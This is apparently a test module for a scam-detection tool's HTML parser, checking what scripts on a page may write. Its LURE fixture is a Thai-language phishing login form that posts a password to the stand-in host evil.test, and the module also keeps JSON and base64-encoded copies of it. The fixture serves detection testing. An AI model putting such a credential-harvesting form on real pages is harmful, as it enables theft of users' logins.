"""Pages with a script, and what it may write."""

import json
from base64 import b64encode

from scamtriage.parse.html.page import read_page
from scamtriage.records.facts import PageFacts

TEXT = "<p>We meet on Saturday in the park.</p>" * 20


LURE = '<h1>เข้าสู่ระบบ</h1><form action="https://evil.test/p"><input type=password name=p></form><p>LINE ID: @helper99x</p>'


TOLD = json.dumps(LURE)


ENCODED = b64encode(LURE.encode()).decode()


def read(script: str, text: str = TEXT) -> PageFacts:
    body = f"<html><body>{text}<div id=r></div><script>{script}</script>"
    return read_page(body=body.encode(), content_type="text/html; charset=utf-8", url="https://a.test/", host="a.test", suffix="test")[0]
